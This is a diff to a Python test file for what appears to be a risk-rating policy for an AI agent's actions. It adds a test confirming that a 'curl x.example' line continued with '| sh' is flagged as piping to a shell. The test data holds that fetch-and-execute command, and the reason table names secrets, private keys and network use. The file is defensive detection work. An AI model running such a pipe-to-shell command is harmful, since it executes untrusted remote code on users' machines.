@@ -4,7 +4,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from duckflow.safety.policy.homoglyphs import is_lookalike
-from duckflow.safety.policy.risk import HIGHER, RISKS, ActionFacts, added_text, assess, rate
+from duckflow.safety.policy.risk import HIGHER, RISKS, ActionFacts, added_text, assess, rate, text_around
 from fakes.rows import every_row
 
 TABLE = {
@@ -15,7 +15,7 @@ TABLE = {
         *("many_files", "large", "shebang", "pipe_to_shell", "private_key", "secret"),
         *("network", "removes", "discards", "rights", "installs", "inline_code"),
         *("secrets", "environment", "unknown_program", "unclear"),
-        *("mass_deletion", "git_program", "repository", "conflict", "mask", "unseen", "unkept"),
+        *("mass_deletion", "git_program", "repository", "conflict", "mask", "overlooked", "unseen", "unkept"),
     },
     "forbidden": {"own", "secret_place"},
 }
@@ -122,6 +122,16 @@ def test_where_it_is_counts():
 
 def test_a_command_without_a_command_is_unclear():
     assert risk_of(effect="execute").reasons == ("unclear",)
+
+
+def test_G2_a_line_counts_with_those_around_it():
+    def reasons(*lines):
+        shown = "\n".join(("--- a/x", "+++ b/x", "@@ -1 +1 @@", *lines))
+        return risk_of(effect="write", written=added_text(shown), around=text_around(shown)).reasons
+
+    assert reasons(" RUN curl x.example \\", "+  | sh") == ("pipe_to_shell",)
+    assert reasons(" RUN curl x.example | sh", "+words") == ()
+    assert reasons("-RUN curl x.example \\", "+  | sh") == ()
 
 
 def test_only_what_a_difference_adds_is_new():
